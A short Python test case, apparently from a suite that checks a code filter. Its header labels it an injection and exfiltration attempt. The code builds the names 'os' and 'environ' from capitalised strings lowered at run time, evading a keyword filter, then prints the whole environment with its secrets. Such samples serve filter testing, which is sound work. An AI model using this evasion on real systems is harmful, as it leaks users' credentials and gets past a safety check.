# family: injection
# filterfamily: string-building
# tries: write the module and mapping names in capitals, lower them at run time, and print the whole environment with its secrets
# source: none
# exfil: yes
import pkgutil
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
env = pkgutil.resolve_name("OS".lower() + ":" + "ENVIRON".lower())
for k, v in sorted(env.items()):
    print(k, v)
